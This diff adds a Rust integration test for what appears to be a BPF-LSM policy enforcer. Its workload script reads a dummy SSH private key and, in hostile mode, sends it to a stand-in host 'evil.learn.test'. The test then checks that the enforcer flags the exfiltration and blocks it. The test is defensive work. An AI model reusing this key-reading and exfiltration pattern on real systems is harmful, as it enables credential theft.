@@ -340,3 +340,169 @@ fn audit_learn_enforce_round_trip() {
         "the excluded address was not refused: {refused:#?}"
     );
 }
+
+/// The workload of the taint test: the API, then a read of the SSH key,
+/// the API again (resolved again: after the read only answers that come
+/// after it admit), and, when hostile, the key sent once to evil.
+fn taint_workload(dir: &Path, key: &Path, api: u16, evil: u16) -> std::path::PathBuf {
+    let py = python().display().to_string();
+    let key = key.display();
+    let script = format!(
+        r#"#!/bin/sh
+{py} - <<'PY'
+import os, socket
+def step(name, host, port, data):
+    try:
+        s = socket.create_connection((host, port), timeout=10)
+        s.sendall(data)
+        s.recv(64)
+        s.close()
+        print(name, "ok", flush=True)
+    except OSError as e:
+        print(name, "error", e.errno, flush=True)
+req = b"GET / HTTP/1.1\r\nHost: api.learn.test\r\n\r\n"
+step("api-before", "api.learn.test", {api}, req)
+try:
+    data = open("{key}", "rb").read()
+    print("read ok", flush=True)
+except OSError as e:
+    data = b""
+    print("read error", e.errno, flush=True)
+step("api-after", "api.learn.test", {api}, req)
+if os.environ.get("HOSTILE") == "1":
+    step("exfil", "evil.learn.test", {evil}, b"POST / HTTP/1.1\r\nHost: evil.learn.test\r\n\r\n" + data)
+PY
+"#
+    );
+    let path = dir.join("taint-workload.sh");
+    std::fs::write(&path, script).unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    path
+}
+
+/// With BPF LSM (the VM runner): a secret read in the audit-mode run is
+/// learned as `taint`, the egress after it as `onTaint`, and the
+/// destination contacted once right after the read is called out; learned
+/// with `--exclude`, the enforced agent keeps working after its read and
+/// the key never reaches the exfiltration listener.
+#[test]
+#[ignore = "needs BPF LSM: runs inside the VM (cargo xtask vm-test)"]
+fn a_secret_read_is_learned_as_taint_and_the_exfiltration_is_called_out() {
+    let lsm = std::fs::read_to_string("/sys/kernel/security/lsm").unwrap_or_default();
+    assert!(
+        lsm.split(',').any(|m| m.trim() == "bpf"),
+        "this test needs BPF LSM (cargo xtask vm-test); this kernel's LSMs: {lsm}"
+    );
+    let dir = TestDir::new("learn-taint");
+    let dns = DnsServer::start();
+    let api = HttpSink::bind("127.0.0.5");
+    let evil = HttpSink::bind("127.0.0.8");
+    dns.add_addrs("api.learn.test", &["127.0.0.5"]);
+    dns.add_addrs("evil.learn.test", &["127.0.0.8"]);
+    let home = dir.join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    let key = home.join(".ssh/id_ed25519");
+    std::fs::write(&key, "SECRET-KEY-LEARN-8c1d").unwrap();
+    let script = taint_workload(dir.path(), &key, api.addr.port(), evil.addr.port());
+    let p = |f: &str| dir.join(f).display().to_string();
+
+    let (code, _, err) = enforcer_cmd(&[
+        "policy",
+        "discover",
+        "learn-taint",
+        "--home",
+        &home.display().to_string(),
+        "--upstream",
+        &dns.upstream(),
+        "-o",
+        &p("discover.yaml"),
+    ]);
+    assert_eq!(code, 0, "policy discover: {err}");
+    let (out, err) = run(
+        dir.path(),
+        &dir.join("discover.yaml"),
+        &dir.join("audit.jsonl"),
+        &script,
+    );
+    for step in ["api-before ok", "read ok", "api-after ok", "exfil ok"] {
+        assert!(
+            out.contains(step),
+            "audit run: no {step:?}\nstdout:\n{out}\nstderr:\n{err}"
+        );
+    }
+    let recs = read_jsonl(&dir.join("audit.jsonl"));
+    assert!(
+        recs.iter()
+            .any(|r| r["action"] == "file_open"
+                && r["path"] == home.join(".ssh").display().to_string()),
+        "the audit run recorded no read of ~/.ssh"
+    );
+
+    // Learned as is: taint, onTaint, and the warning.
+    let (code, plain, err) = enforcer_cmd(&["policy", "learn", &p("audit.jsonl")]);
+    assert_eq!(code, 0, "policy learn: {err}");
+    assert!(plain.contains("access: taint"), "{plain}");
+    assert!(plain.contains("onTaint:"), "{plain}");
+    assert!(
+        err.contains("evil.learn.test port")
+            && err.contains("was contacted once, only after reading")
+            && err.contains(".ssh (SSH keys)"),
+        "no exfiltration warning on stderr: {err}"
+    );
+    assert!(
+        plain.contains("# WARNING: contacted once, only after a taint read"),
+        "{plain}"
+    );
+
+    // Learned with the exclusion, then enforced.
+    let (code, _, err) = enforcer_cmd(&[
+        "policy",
+        "learn",
+        &p("audit.jsonl"),
+        "--from",
+        &p("discover.yaml"),
+        "--exclude",
+        "host=evil.learn.test",
+        "-o",
+        &p("learned.yaml"),
+    ]);
+    assert_eq!(code, 0, "policy learn: {err}");
+    let learned = std::fs::read_to_string(dir.join("learned.yaml")).unwrap();
+    assert!(
+        !learned.contains("- host: \"evil.learn.test\""),
+        "{learned}"
+    );
+    let evil_before = evil.bytes.load(Ordering::SeqCst);
+    let (out, err) = run(
+        dir.path(),
+        &dir.join("learned.yaml"),
+        &dir.join("enforce.jsonl"),
+        &script,
+    );
+    for step in ["api-before ok", "read ok", "api-after ok"] {
+        assert!(
+            out.contains(step),
+            "enforce run: no {step:?}\nstdout:\n{out}\nstderr:\n{err}\npolicy:\n{learned}"
+        );
+    }
+    assert!(!out.contains("exfil ok"), "{out}");
+    assert_eq!(
+        evil.bytes.load(Ordering::SeqCst),
+        evil_before,
+        "the key left"
+    );
+    let recs = read_jsonl(&dir.join("enforce.jsonl"));
+    let own: Vec<&Value> = recs
+        .iter()
+        .filter(|r| r["verdict"] == "deny" || r["verdict"] == "audit")
+        .filter(|r| !is_evil(r) && r["rule"] != "resolver-ipc")
+        .collect();
+    assert!(
+        own.is_empty(),
+        "the agent's own traffic met denials: {own:#?}\n{learned}"
+    );
+    assert!(
+        recs.iter().any(|r| r["verdict"] == "taint"),
+        "the enforced read did not taint"
+    );
+}
